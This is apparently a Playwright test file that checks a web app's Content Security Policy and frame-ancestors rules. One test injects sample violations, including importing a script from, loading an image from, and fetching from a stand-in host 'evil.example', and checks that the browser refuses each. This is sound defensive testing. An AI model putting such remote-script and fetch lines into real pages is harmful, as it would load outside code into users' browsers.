"""What the security headers forbid, no page of ours needs; what they allow is no more than that.

That nothing is violated, tests/browser/conftest.py checks in the windows of every test. Here the
search itself is checked, and each directive that lets something in, by doing what it is for.
"""

import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from explorer.exports.onnx import onnx_bytes
from explorer.network.spec import Architecture, Conv2d, Flatten, Linear
from tests.browser.conftest import App, Server, open_app, serving
from tests.browser.test_accessibility import PAGES
from tests.browser.test_class import KEY, arrive, become_teacher, close, open_person_menu

pytestmark = pytest.mark.browser
DRAWN = "(chart) => chart.querySelectorAll('path').length > 2"


def test_a_violation_fails_the_test_of_the_window(app: App) -> None:
    """That the search works: what text on a page could try is refused, and is found."""
    app.open("/?page=runs")
    tries = {
        "eval": "window.eval('1')",
        "inline script": "document.body.append(Object.assign(document.createElement('script'), {textContent: '1'}))",
        "script of another host": "import('https://evil.example/a.js').catch(() => 0)",
        "picture of another host": "new Image().src = 'https://evil.example/a.png'",
        "words to another host": "fetch('https://evil.example/').catch(() => 0)",
        "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: '/explorer-device'}))",
        "plug-in": "document.body.append(Object.assign(document.createElement('object'), {data: '/'}))",
    }
    for name, script in tries.items():
        app.errors.clear()
        # As an element's own script: what a test evaluates by itself is exempt from the policy.
        app.page.evaluate(f"() => {{ setTimeout(() => {{ {script} }}) }}")
        app.until(lambda: app.errors, f"{name} is refused")
        assert any("Content Security Policy" in each for each in app.errors), name
    app.errors.clear()
    # Chromium names the request that it refuses before it is sent.
    app.requests[:] = [url for url in app.requests if "evil.example" not in url]


def test_each_page_is_drawn_whole(app: App, tmp_path: Path) -> None:
    for address in PAGES.values():
        app.open(address)
        assert app.page.get_by_test_id("stException").count() == 0
    charts = app.page.locator("svg.marks")
    app.open("/?page=compare&view=Learning")
    expect(charts.first).to_be_visible()
    assert charts.first.evaluate(DRAWN)
    app.open("/?page=train")
    app.train_on_digits(2)
    expect(app.run_status).to_have_text("finished")
    app.settled()
    expect(charts.first).to_be_visible()
    app.go_to("Build")
    app.row(0).click(position={"x": 60, "y": 14})
    app.settled()
    expect(app.page.locator("figcaption .sees")).to_be_visible()
    file = tmp_path / "colour.onnx"
    layers = (Conv2d(out_channels=4, kernel_size=5), Flatten(), Linear(out_features=10))
    file.write_bytes(onnx_bytes(Architecture(name="colour", layers=layers)))
    app.page.get_by_role("button", name="Open…").click()
    app.page.locator('input[type="file"]').set_input_files(file)
    expect(app.page.get_by_role("dialog").locator(".read-as")).to_have_text("Read as an ONNX file")
    app.page.get_by_role("button", name="Open in Build").click()
    app.settled()
    app.page.get_by_role("button", name="Share & save").click()
    app.settled()
    with app.page.expect_download() as download:
        app.page.get_by_role("button", name=re.compile("JSON ·")).click()
    assert Path(download.value.path()).stat().st_size > 100


@pytest.mark.slow
def test_the_class_has_its_pages_too(chromium: Browser, tmp_path: Path) -> None:
    with serving(tmp_path, address="0.0.0.0", EXPLORER_TEACHER_KEY=KEY) as server:
        tess = arrive(chromium, server.url, "Tess")
        open_person_menu(tess)
        tess.page.get_by_role("button", name="Show a code").click()
        picture = tess.page.locator(".device-code img")
        expect(picture).to_be_visible()
        assert picture.evaluate("(image) => image.complete && image.naturalWidth > 100")
        code = tess.page.locator(".device-code b").inner_text()
        telephone = open_app(chromium.new_context(), server.url)
        telephone.page.goto(f"{server.url}/explorer-device?code={code}")
        styled = "() => getComputedStyle(document.querySelector('button')).cursor"
        assert telephone.page.evaluate(styled)
        telephone.page.get_by_role("button", name="Continue here").click()
        telephone.page.wait_for_url(f"{server.url}/")
        telephone.settled()
        tess.page.reload()
        tess.settled()
        become_teacher(tess)
        tess.go_to("Class")
        close(tess, telephone)


@contextmanager
def school_site(url: str, port: int = 0) -> Iterator[str]:
    """A page of a school that shows ours in a frame."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(f'<iframe src="{url}/" width="1200" height="800">'.encode())

        def log_message(self, *arguments: object) -> None:
            """Nothing."""

    school = ThreadingHTTPServer(("127.0.0.1", port), Handler)
    threading.Thread(target=school.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{school.server_port}"
    finally:
        school.shutdown()
        school.server_close()


def test_no_other_site_shows_our_pages(chromium: Browser, server: Server) -> None:
    with school_site(server.url) as school:
        app = open_app(chromium.new_context(), school)
        app.page.goto(school)
        app.until(lambda: app.errors, "the frame is refused")
        assert "frame-ancestors 'self'" in app.errors.pop()
        assert app.errors == []
        app.page.context.close()


def test_a_site_that_is_listed_shows_them(chromium: Browser, tmp_path: Path) -> None:
    with ThreadingHTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler) as free:
        port = free.server_port
    school = f"http://127.0.0.1:{port}"
    with (
        serving(tmp_path, EXPLORER_FRAME_ANCESTORS=school) as server,
        school_site(server.url, port),
    ):
        app = open_app(chromium.new_context(), school)
        app.page.goto(school)
        shown = app.page.frame_locator("iframe").get_by_role("navigation", name="Pages")
        expect(shown).to_be_visible()
        app.page.context.close()
